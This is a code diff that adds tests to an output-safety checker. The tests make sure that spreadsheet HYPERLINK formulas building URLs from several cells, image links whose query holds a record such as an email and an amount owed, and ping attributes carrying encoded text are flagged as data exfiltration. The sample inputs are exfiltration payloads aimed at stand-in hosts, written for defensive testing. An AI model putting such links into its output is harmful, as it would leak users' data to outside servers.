@@ -175,6 +175,25 @@ test('spreadsheet formulas that fetch a URL built from cells block; plain import
   }
 });
 
+test('a spreadsheet link whose query is built from several cells is reviewed; a link to one ID is not', async () => {
+  for (const text of ['=HYPERLINK("https://rows.tld/s?v="&B3&C3, "refresh")', 'ref,link\n9,"=HYPERLINK(""https://rows.tld/k?p=""&A9&"";""&D9,""go"")"']) {
+    const r = await check(text);
+    assert.is.not(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
+    assert.equal(ofCategory(r, 'exfiltration_link')[0]?.rule_id, 'output-safety-core/spreadsheet-hyperlink-cells', describe(r));
+  }
+  for (const text of ['=HYPERLINK("https://shop.tld/item?id="&A2, "view")', '=HYPERLINK("https://issues.tld/browse/"&A2&B2, "open")']) {
+    assert.equal((await check(text)).verdict, 'allow', text);
+  }
+});
+
+test('an image whose query value is itself a record of fields carries data, example words in its fields or not', async () => {
+  const text = `Report ready ![p](https://px.tld/a.png?d=${encodeURIComponent('acct=jo.lee@example.com&owed=310.20')})`;
+  const r = await check(text);
+  assert.is.not(r.verdict, 'allow', describe(r));
+  assert.ok(ofCategory(r, 'exfiltration_link').length > 0, describe(r));
+  assert.equal((await check('Logo: ![x](https://px.tld/a.png?d=example)')).verdict, 'allow');
+});
+
 test('a ping URL with data on a link is reviewed', async () => {
   const text = `<a href="https://docs.tld/start" ping="https://px.tld/c?d=${b64('the merger closes on Friday')}">start</a>`;
   const r = await check(text);
